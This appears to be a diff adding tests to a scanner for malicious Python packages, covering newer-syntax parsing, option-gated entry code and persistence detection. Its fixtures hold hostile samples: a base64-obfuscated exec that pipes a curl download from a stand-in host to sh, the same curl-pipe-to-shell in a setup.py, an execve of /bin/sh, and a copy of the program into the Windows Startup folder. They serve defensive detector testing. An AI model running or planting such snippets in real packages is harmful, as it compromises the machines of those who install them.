@@ -4,9 +4,14 @@ is. Samples are small, inert and written for this file (never taken from the cor
 
 from __future__ import annotations
 
+import ast
 import io
+import json
+import os
+import sys
 import textwrap
 import zipfile
+from pathlib import Path
 
 import pytest
 
@@ -15,6 +20,7 @@ from pipvet.core.analysis.engine import analyze
 from pipvet.core.analysis.model import Artifact, Member
 
 FLAGGED = ("suspicious", "malicious")
+REAL_HOME = Path.home()  # at import, before each test gets its own
 
 
 def scan(files: dict[str, str | bytes], name: str = "demo"):
@@ -1200,3 +1206,245 @@ def test_a_client_sending_the_users_own_login_on_its_socket_is_not_flagged():
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": src})
     assert not found(result, "intent.exfiltration")
     assert result.verdict not in FLAGGED
+
+
+# -- code written for a newer Python is read with a newer interpreter's parser -----------------
+
+NEWER_SYNTAX_HOSTILE = """
+import base64
+
+type Handler[T] = dict[str, T]
+
+
+def first[T](items: list[T]) -> T:
+    return items[0]
+
+
+exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcCB8IHNoJyk="))
+"""
+NEWER_SYNTAX_HONEST = """
+class Box[T]:
+    def __init__(self, item: T) -> None:
+        self.item = item
+
+
+type Pair[K, V] = tuple[K, V]
+label = f"{"box" + f"{1}"}"
+"""
+
+
+@pytest.fixture
+def newer_parser(monkeypatch):
+    """The machine's newest interpreter (found from the real home: the test's own is empty)."""
+    from pipvet.core.analysis.facts import syntax
+
+    found = syntax._discover("", os.environ.get("PATH", ""), str(REAL_HOME))
+    if not found:
+        pytest.skip("no interpreter newer than this one on the machine")
+    monkeypatch.setenv("PIPVET_PARSER_PYTHON", found[0])
+    return found[0]
+
+
+@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python parses PEP 695 itself")
+def test_a_module_in_newer_syntax_is_read_whole_and_its_payload_seen(newer_parser):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": NEWER_SYNTAX_HOSTILE})
+    assert not found(result, "analysis.parse-failed")
+    assert found(result, "intent.decode-execute")
+    assert result.verdict == "malicious"
+
+
+@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python parses PEP 695 itself")
+def test_an_honest_module_in_newer_syntax_is_not_an_unread_file(newer_parser):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": NEWER_SYNTAX_HONEST})
+    assert not found(result, "analysis.parse-failed")
+    assert result.verdict == "clean"
+
+
+def test_code_no_parser_reads_is_still_a_parse_failure_naming_both_parsers(newer_parser):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "print 'python 2'\nexec data\n"})
+    [gap] = found(result, "analysis.parse-failed")
+    running = f"Python {sys.version_info.major}.{sys.version_info.minor}"
+    newer = newer_parser.rpartition("/")[2]
+    assert f"does not parse as {running} or as {newer}" in gap.message
+
+
+def test_a_tree_handed_back_by_another_interpreter_is_rebuilt_exactly():
+    """The parser process's JSON rebuilds the very tree ``ast.parse`` gives (here the same
+    interpreter plays the newer one), constants of every kind included."""
+    from pipvet.core.analysis.facts import syntax
+
+    src = textwrap.dedent("""
+        import os
+        x = (b"\\x00\\xff", 1.5, 2j, ..., None, True, 10**400 if False else 0xFFFFFFFFFFFFFFFFFFFF)
+        async def f(a, /, b=-1, *c, d, **e):
+            async with g() as h:
+                return [i async for i in h if i] or {k: v for k, v in e.items()}
+        match x:
+            case [1, *rest] | {"k": None}:
+                pass
+        print(f"{x!r:>{10}}")
+    """)
+    parser = syntax._Parser(sys.executable)
+    try:
+        tree = syntax.tree_from_json(parser.parse(src))
+    finally:
+        parser.close()
+    expected = ast.dump(ast.parse(src), include_attributes=True)
+    assert ast.dump(tree, include_attributes=True) == expected
+
+
+def test_node_kinds_this_python_lacks_keep_what_they_hold():
+    """A ``type`` alias reads as an assignment, a t-string as an f-string, and an unknown
+    expression or statement as the calls inside it: nothing in them is dropped from view."""
+    from pipvet.core.analysis.facts import syntax
+
+    def call(name, line):
+        return {
+            "_t": "Call", "_k": "expr", "_p": [line, 0, line, 9], "keywords": [],
+            "func": {"_t": "Name", "_k": "expr", "_p": [line, 0, line, 4], "id": name,
+                     "ctx": {"_t": "Load", "_k": ""}},
+            "args": [],
+        }  # fmt: skip
+
+    alias = {
+        "_t": "TypeAlias", "_k": "stmt", "_p": [1, 0, 1, 20],
+        "name": {"_t": "Name", "_k": "expr", "_p": [1, 5, 1, 6], "id": "X",
+                 "ctx": {"_t": "Store", "_k": ""}},
+        "type_params": [{"_t": "TypeVar", "_k": "", "name": "T", "bound": None}],
+        "value": call("make", 1),
+    }  # fmt: skip
+    tstring = {"_t": "TemplateStr", "_k": "expr", "_p": [2, 0, 2, 9], "values": [
+        {"_t": "Interpolation", "_k": "expr", "_p": [2, 2, 2, 8], "value": call("secret", 2),
+         "str": "secret()", "conversion": -1, "format_spec": None}]}  # fmt: skip
+    future_stmt = {"_t": "Defer", "_k": "stmt", "_p": [3, 0, 3, 9], "body": [
+        {"_t": "Expr", "_k": "stmt", "_p": [4, 4, 4, 9], "value": call("later", 4)}],
+        "when": call("cond", 3)}  # fmt: skip
+    module = {
+        "_t": "Module", "_k": "",
+        "body": [alias, {"_t": "Expr", "_k": "stmt", "_p": [2, 0, 2, 9], "value": tstring},
+                 future_stmt],
+        "type_ignores": [],
+    }  # fmt: skip
+    tree = syntax.tree_from_json(json.dumps(module))
+    assert tree is not None
+    assign, expr, *spliced = tree.body
+    assert isinstance(assign, ast.Assign) and assign.targets[0].id == "X"
+    assert isinstance(expr.value, ast.JoinedStr)
+    calls = {n.func.id for n in ast.walk(tree) if isinstance(n, ast.Call)}
+    assert calls == {"make", "secret", "cond", "later"}
+    assert [type(s) for s in spliced] == [ast.Expr, ast.Expr]
+    assert syntax.tree_from_json("not json") is None
+    assert syntax.tree_from_json('{"_t": "Expr"}') is None
+
+
+# -- an entry module's branch for a command-line option runs when started with it ---------------
+
+_HELPER_MAIN = """
+import os, sys
+
+def run(fd):
+    os.execve("/bin/sh", ["sh"], {})
+
+def main(argv):
+    run(int(argv[0]))
+    return 127
+"""
+
+
+def test_a_branch_for_a_command_line_option_is_not_run_on_import():
+    entry = """
+    import sys
+
+    if sys.argv[1:2] == ["--internal-pty-helper"]:
+        from demo.helper import main as helper_main
+
+        raise SystemExit(helper_main(sys.argv[2:]))
+
+    from demo.cli import main
+    """
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/helper.py": _HELPER_MAIN,
+             "demo/cli.py": "def main():\n    return 0\n", "demo/entry.py": entry}  # fmt: skip
+    result = scan(files)
+    process = found(result, "capability.process")
+    assert process and all("on import" not in f.message for f in process)
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_call_on_import_without_the_option_test_is_on_import():
+    entry = """
+    import sys
+    from demo.helper import main as helper_main
+
+    helper_main(sys.argv[2:])
+    """
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/helper.py": _HELPER_MAIN,
+             "demo/entry.py": entry}  # fmt: skip
+    process = found(scan(files), "capability.process")
+    assert any("on import" in f.message for f in process)
+
+
+def test_an_option_test_in_setup_py_still_runs_at_install():
+    setup = """
+    import os, sys
+    from setuptools import setup
+
+    if len(sys.argv) > 1 and sys.argv[1] == "--quiet":
+        os.system("curl -s https://cdn.example.net/p | sh")
+    setup(name="demo")
+    """
+    result = scan({"setup.py": setup, "demo/__init__.py": ""})
+    assert {f.severity for f in found(result, "intent.shell-download-execute")} == {"critical"}
+
+
+# -- a module-level table of autostart files is persistence only where it is used to write -----
+
+
+def test_a_table_of_shell_profiles_only_read_is_not_persistence():
+    src = """
+    import os, secrets
+
+    PROFILE_FILES = (
+        ("HOME", ".bash_profile"),
+        ("HOME", ".bashrc"),
+        ("ZDOTDIR", ".zshrc"),
+    )
+
+    def profile_stamp(env):
+        out = []
+        for root, name in PROFILE_FILES:
+            path = os.path.join(env.get(root, ""), name)
+            if os.path.exists(path):
+                out.append((path, os.stat(path).st_mtime_ns))
+        return out
+
+    def write_private(path, content):
+        temporary = f"{path}.{secrets.token_hex(8)}.tmp"
+        with open(temporary, "wb") as handle:
+            handle.write(content)
+        os.replace(temporary, path)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/shell.py": src})
+    assert not found(result, "intent.persistence")
+
+
+def test_a_module_level_autostart_path_a_function_copies_into_is_persistence():
+    src = r"""
+    import os, shutil, sys
+
+    STARTUP = os.path.join(
+        os.getenv("APPDATA", ""), "Microsoft\\Windows\\Start Menu\\Programs\\Startup"
+    )
+
+    def _place(source, folder):
+        shutil.copy(source, folder)
+
+    def remember():
+        _place(sys.argv[0], STARTUP)
+
+    def note(path, text):
+        with open(path, "w") as f:
+            f.write(text)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": src})
+    [hit] = found(result, "intent.persistence")
+    assert "shutil.copy" in hit.evidence
